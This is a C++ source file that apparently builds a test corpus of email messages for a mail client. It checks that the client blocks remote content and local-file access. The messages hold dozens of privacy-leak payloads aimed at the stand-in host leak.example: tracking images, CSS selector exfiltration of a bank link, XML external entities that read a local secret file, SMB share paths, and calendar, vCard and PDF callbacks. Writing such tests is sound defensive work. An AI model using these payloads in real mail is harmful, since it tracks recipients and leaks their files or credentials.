#include "leakmessages.h"

#include "../render/leakvectors.h"

namespace posthorn
{

namespace
{

constexpr int VectorsInOne = 12;

QByteArray message(const QByteArray &name, const QByteArray &fields, const QByteArray &rest)
{
    return "From: Spy <spy@leak.example>\nTo: ada@example.org\nSubject: " + name + "\nMessage-ID: <" + name +
           "@leak.example>\nDate: Thu, 1 Jan 2026 00:00:00 +0000\nMIME-Version: 1.0\n" + fields + rest;
}

QByteArray html(const QByteArray &body)
{
    return "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n" + body + '\n';
}

QByteArray mixed(const QByteArray &part, const QByteArray &kind = "mixed")
{
    return "Content-Type: multipart/" + kind +
           "; boundary=bb\n\n--bb\nContent-Type: text/plain\n\nHello\n--bb\n" + part + "\n--bb--\n";
}

void addHtml(QList<LeakMessage> &list)
{
    const QByteArray secret = "file:///tmp/" + QByteArray(LeakSecret);
    const std::pair<const char *, QByteArray> bodies[] = {
        {"dns-prefetch", "<meta http-equiv=\"x-dns-prefetch-control\" content=\"on\"><a "
                         "href=\"https://id.leak.example/\">x</a>"},
        {"refresh", "<meta http-equiv=refresh content=\"0;url=http://leak.example/\"><body>x"},
        {"base", "<base href=\"http://leak.example/\"><img src=x.png><a href=y>y</a>"},
        {"files", "<img src=\"" + secret + ".png\"><link rel=stylesheet href=\"" + secret +
                      ".css\"><iframe src=\"" + secret + ".html\"></iframe><a href=\"" + secret +
                      "\">x</a><img src=\"/tmp/" + LeakSecret + "\">"},
        {"styles",
         "<style>@import 'http://leak.example/a.css';@font-face{font-family:x;src:url(http://leak.example/f)}"
         "p{background:u\\72l(http://leak.example/b);cursor:url(file:///tmp/" +
             QByteArray(LeakSecret) + ".cur),auto;font-family:x}</style><p>x</p>"},
        {"long word", "<p>" + QByteArray(100'000, 'x') + "<img src=http://leak.example/y>"},
        {"pinned page",
         "<meta name=msapplication-config content=http://leak.example/c><meta name=msapplication-badge "
         "content=\"frequency=30;polling-uri=http://leak.example/b\"><meta name=msapplication-TileImage "
         "content=http://leak.example/t><meta property=og:image content=http://leak.example/o><meta "
         "property=al:web:url content=http://leak.example/w><p>x"},
        {"words as addresses",
         "<style>p::after{content:attr(title url)}p::before{content:attr(no,url(http://leak.example/a))}"
         "i{background:env(no,url(http://leak.example/e))}/*# sourceMappingURL=http://leak.example/m */"
         "@counter-style c{symbols:url(http://leak.example/s)}@property --x{syntax:'<url>';inherits:false;"
         "initial-value:url(http://leak.example/i)}</style><p title=http://leak.example/w>x<i>y</i>"},
        {"one letter after the other",
         "<style>@import 'http://leak.example/next';a[href^='https://bank.example/?t=a']"
         "{background:url(http://leak.example/a)}a[href*=secret]::before{content:url(http://leak.example/b)}"
         "@font-face{font-family:s;src:url(http://leak.example/A);unicode-range:U+0041}b{font-family:s}</"
         "style>"
         "<a href='https://bank.example/?t=abc'>x</a><b>A</b>"},
        {"commas before pictures",
         "<img srcset=',,,,,http://leak.example/s'><img srcset='http://leak.example/1 "
         "1x, http://leak.example/2 2x'><image href=http://leak.example/h>"},
        {"picture in a picture",
         "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
         "xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:hr%65f='http://leak.example/v'/></svg>\">"
         "<div "
         "style=\"background:url(data:image/"
         "svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0naHR0cDovL2xlYWsuZXhhbXBsZS94"
         "Jy8+PC9zdmc+)\">x</div>"},
        {"Word and Outlook",
         "<!--[if gte mso 9]><v:rect fill=t><v:fill type=frame src=http://leak.example/v></v:rect>"
         "<![endif]--><v:image src=http://leak.example/i /><p style=\"mso-list:url(http://leak.example/l)\" "
         "background=http://leak.example/b>x<o:p style='behavior:url(#default#VML)'></o:p>"},
        {"an answer that waits",
         "<form action=http://leak.example/f><input name=a value=b><input type=submit></form><amp-img "
         "src=http://leak.example/p></amp-img><script "
         "type=application/ld+json>{\"potentialAction\":{\"target\":"
         "\"http://leak.example/j\"}}</script>"},
        {"unclosed", "<p title=\"<img src='http://leak.example/z'>"},
    };
    for (const auto &[name, body] : bodies)
        list += {name, message(name, {}, html(body))};
    QByteArray several;
    int number = 0;
    for (const LeakVector &vector : leakVectors()) {
        several += "<div>" + vector.html.toUtf8() + "</div>-->\n";
        if (++number % VectorsInOne == 0) {
            const QByteArray name = "vectors " + QByteArray::number(number);
            list += {name, message(name, {}, html(several))};
            several.clear();
        }
    }
    list += {"last vectors", message("last vectors", {}, html(several))};
}

void addHeaders(QList<LeakMessage> &list)
{
    const std::pair<const char *, QByteArray> fields[] = {
        {"receipts", "Disposition-Notification-To: spy@leak.example\nReturn-Receipt-To: spy@leak.example\n"
                     "X-Confirm-Reading-To: spy@leak.example\nReturn-Receipt-Requested: yes\n"},
        {"lists",
         "List-Id: <l.leak.example>\nList-Unsubscribe: <http://leak.example/u>, <https://leak.example/u>, "
         "<mailto:u@leak.example>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\n"
         "List-Help: <https://leak.example/h>\nList-Archive: <https://leak.example/a>\n"},
        {"faces",
         "Face: iVBORw0KGgo=\nX-Face: abc\nX-Image-URL: http://leak.example/f.png\n"
         "BIMI-Location: v=BIMI1; l=https://leak.example/l.svg\nBIMI-Selector: v=BIMI1; s=default\n"},
        {"keys",
         "Autocrypt: addr=spy@leak.example; keydata=AAAA\nOpenPGP: id=1; url=https://leak.example/k.asc\n"},
        {"signature", "DKIM-Signature: v=1; a=rsa-sha256; d=leak.example; s=sel; h=from; bh=AAAA; b=AAAA\n"},
        {"servers' fields",
         "Link: <http://leak.example/l>; rel=preload\nRefresh: 0; url=http://leak.example/r\n"
         "X-DNS-Prefetch-Control: on\nContent-Security-Policy: report-uri http://leak.example/c\n"
         "NEL: {\"report_to\":\"x\"}\nLocation: http://leak.example/o\nSet-Cookie: a=b\n"},
        {"where it came from",
         "Archived-At: <http://leak.example/a>\nErrors-To: spy@leak.example\nX-URL: http://leak.example/u\n"
         "Sender: <spy@[192.0.2.1]>\nReply-To: \"http://leak.example/\" <r@xn--lek-1na.example>\n"
         "In-Reply-To: <http://leak.example/i>\nReferences: <http://leak.example/r>\n"
         "Received: from leak.example ([192.0.2.1]) by mx.example.org; Thu, 1 Jan 2026 00:00:00 +0000\n"
         "Authentication-Results: leak.example; dkim=pass header.d=leak.example\n"
         "ARC-Seal: i=1; a=rsa-sha256; d=leak.example; s=s; cv=none; b=AAAA\nJabber-ID: spy@leak.example\n"},
        {"reports", "Content-Base: http://leak.example/\nContent-Location: http://leak.example/x\n"
                    "X-Priority: 1\nReport-To: {\"endpoints\":[{\"url\":\"https://leak.example/\"}]}\n"},
    };
    for (const auto &[name, text] : fields)
        list += {name, message(name, text, html("<p>x</p>"))};
}

void addParts(QList<LeakMessage> &list)
{
    const QByteArray file = "/tmp/" + QByteArray(LeakSecret);
    const std::pair<const char *, QByteArray> parts[] = {
        {"external, http",
         "Content-Type: message/external-body; access-type=URL; URL=\"http://leak.example/x\"\n\n"
         "Content-Type: image/png\n\n"},
        {"external, file", "Content-Type: message/external-body; access-type=local-file; name=\"" + file +
                               "\"\n\n"
                               "Content-Type: image/png\n\n"},
        {"external, ftp",
         "Content-Type: message/external-body; access-type=anon-ftp; site=leak.example; name=x\n\n"
         "Content-Type: image/png\n\n"},
        {"invitation",
         "Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\n"
         "UID:1\nDTSTART:20260101T000000Z\nORGANIZER:mailto:spy@leak.example\nSUMMARY:x\n"
         "ATTACH:http://leak.example/a\nURL:http://leak.example/u\nBEGIN:VALARM\nACTION:AUDIO\n"
         "ATTACH:file://" +
             file + "\nEND:VALARM\nEND:VEVENT\nEND:VCALENDAR\n"},
        {"card", "Content-Type: text/vcard\nContent-Disposition: attachment; "
                 "filename=a.vcf\n\nBEGIN:VCARD\nVERSION:3.0\n"
                 "FN:Spy\nPHOTO;VALUE=URI:http://leak.example/p.png\nKEY;VALUE=URI:http://leak.example/k\n"
                 "LOGO;VALUE=uri:file://" +
                     file + "\nURL:http://leak.example/\nEND:VCARD\n"},
        {"external, others",
         "Content-Type: message/external-body; access-type=mail-server; server=\"spy@leak.example\"; "
         "subject=x\n\nContent-Type: image/png\n\n"},
        {"external, tftp",
         "Content-Type: message/external-body; access-type=tftp; site=leak.example; name=x\n\n"
         "Content-Type: text/html\nContent-ID: <x@leak.example>\n\n"},
        {"invitation with all",
         "Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nVERSION:2.0\n"
         "SOURCE;VALUE=URI:http://leak.example/s\nIMAGE;VALUE=URI:http://leak.example/i\n"
         "BEGIN:VTIMEZONE\nTZID:Leak/Zone\nTZURL:http://leak.example/z\nEND:VTIMEZONE\n"
         "BEGIN:VEVENT\nUID:2\nDTSTART;TZID=Leak/Zone:20260101T000000\n"
         "ORGANIZER;DIR=\"ldap://leak.example/x\":mailto:spy@leak.example\n"
         "ATTENDEE;RSVP=TRUE;DIR=\"http://leak.example/d\":mailto:ada@example.org\n"
         "SUMMARY;ALTREP=\"http://leak.example/t\":x\nCONFERENCE;VALUE=URI:http://leak.example/c\n"
         "X-ALT-DESC;FMTTYPE=text/html:<img src=http://leak.example/h>\nLOCATION:http://leak.example/l\n"
         "STRUCTURED-DATA;VALUE=URI:http://leak.example/j\nBEGIN:VALARM\nACTION:EMAIL\n"
         "ATTENDEE:mailto:spy@leak.example\nTRIGGER:-PT1M\nEND:VALARM\nEND:VEVENT\nEND:VCALENDAR\n"},
        {"card with all",
         "Content-Type: text/vcard\n\nBEGIN:VCARD\nVERSION:4.0\nFN:Spy\nPHOTO:http://leak.example/p\n"
         "SOUND:http://leak.example/s\nSOURCE:ldap://leak.example/x\nCALURI:http://leak.example/c\n"
         "FBURL:http://leak.example/f\nIMPP:xmpp:spy@leak.example\nRELATED:http://leak.example/r\n"
         "MEMBER:mailto:m@leak.example\nKEY:http://leak.example/k\nLOGO:smb://leak.example/l\n"
         "XML:<a xmlns='http://leak.example/x'/>\nEND:VCARD\n"},
        {"signature of a company",
         "Content-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\n"
         "MCMGCCsGAQUFBwEBBBcwFTATBggrBgEFBQcwAYYHaHR0cDovLw==\n"},
        {"key of a person",
         "Content-Type: application/pgp-keys; name=key.asc\n\n-----BEGIN PGP PUBLIC KEY BLOCK-----\n"
         "Comment: hkp://leak.example\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----\n"},
        {"sealed letter",
         "Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n--bb\nContent-Type: "
         "application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n"},
        {"share as name",
         "Content-Type: image/png; name=\"\\\\\\\\leak.example\\\\share\\\\x.png\"\n"
         "Content-Disposition: attachment; filename=\"smb://leak.example/share/x.png\"\n\nx\n"},
        {"shortcut", "Content-Type: application/x-mswinurl\nContent-Disposition: attachment; "
                     "filename=a.url\n\n[InternetShortcut]\nURL=http://leak.example/\n"
                     "IconFile=\\\\leak.example\\x\n"},
        {"list of addresses", "Content-Type: text/uri-list\n\nhttp://leak.example/u\nfile://" + file + "\n"},
        {"page of another kind",
         "Content-Type: application/xhtml+xml\n\n<?xml version='1.0'?><!DOCTYPE html "
         "SYSTEM 'http://leak.example/d'><html "
         "xmlns='http://www.w3.org/1999/xhtml'><img src='http://leak.example/x'/></html>\n"},
        {"page for telephones",
         "Content-Type: text/x-amp-html\n\n<html amp4email><amp-img src=http://leak.example/a></html>\n"},
        {"XML", "Content-Type: text/xml; name=a.xml\n\n<?xml-stylesheet href='http://leak.example/s'?>"
                "<!DOCTYPE x [<!ENTITY y SYSTEM 'file://" +
                    file + "'>]><x>&y;</x>\n"},
        {"rich text", "Content-Type: text/enriched\n\n<x-image>http://leak.example/e</x-image>\n"},
        {"a piece",
         "Content-Type: message/partial; id=\"x@leak.example\"; number=1; total=2\n\nSubject: x\n\nx\n"},
        {"a bounce",
         "Content-Type: message/delivery-status\n\nReporting-MTA: dns; leak.example\n\n"
         "Final-Recipient: rfc822; a@leak.example\nAction: failed\nStatus: 5.0.0\n"
         "Remote-MTA: dns; mx.leak.example\nDiagnostic-Code: smtp; 550 see http://leak.example/\n"},
        {"a receipt", "Content-Type: message/disposition-notification\n\nReporting-UA: leak.example\n"
                      "Final-Recipient: rfc822;a@leak.example\nDisposition: manual-action/x; displayed\n"},
        {"path as name", "Content-Type: image/png; name=\"" + file +
                             "\"\nContent-Disposition: attachment; filename=\"" + file + "\"\n\nx\n"},
        {"link as name", "Content-Type: application/octet-stream\nContent-Disposition: attachment; "
                         "filename=\"http://leak.example/x.desktop\"\n\n[Desktop "
                         "Entry]\nType=Link\nURL=http://leak.example/\n"},
        {"message in it",
         "Content-Type: message/rfc822\n\n" +
             message("inner", "Disposition-Notification-To: spy@leak.example\n",
                     html("<img src=http://leak.example/i><img src=\"file://" + file + "\">"))},
        {"script picture",
         "Content-Type: image/svg+xml\nContent-Disposition: attachment; filename=a.svg\n\n"
         "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://leak.example/s.png'/></svg>\n"},
        {"page", "Content-Type: text/html\nContent-Disposition: attachment; filename=a.html\n\n"
                 "<img src=http://leak.example/h.png>\n"},
        {"PDF", "Content-Type: application/pdf\nContent-Disposition: attachment; filename=a.pdf\n\n"
                "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://leak.example/p)>>>>endobj\n"},
        {"playlist", "Content-Type: audio/x-mpegurl\nContent-Disposition: attachment; filename=a.m3u\n\n"
                     "http://leak.example/a.mp3\n"},
    };
    for (const auto &[name, part] : parts)
        list += {name, message(name, {}, mixed(part))};
    list += {"web archive",
             message("web archive", {},
                     "Content-Type: multipart/related; boundary=bb; "
                     "type=\"text/html\"\n\n--bb\nContent-Type: text/html\n"
                     "Content-Location: http://leak.example/\nContent-Base: http://leak.example/\n\n"
                     "<img src=a.png><img src=cid:missing><img src=mid:x/y>\n--bb\nContent-Type: image/png\n"
                     "Content-Location: http://leak.example/other.png\n\nx\n--bb--\n")};
    list += {"plain text", message("plain text", {},
                                   "Content-Type: text/plain\n\nhttp://leak.example/ file://" + file +
                                       " \\\\leak.example\\share\n")};
}

} // namespace

QList<LeakMessage> leakMessages()
{
    QList<LeakMessage> list;
    addHeaders(list);
    addParts(list);
    addHtml(list);
    return list;
}

} // namespace posthorn
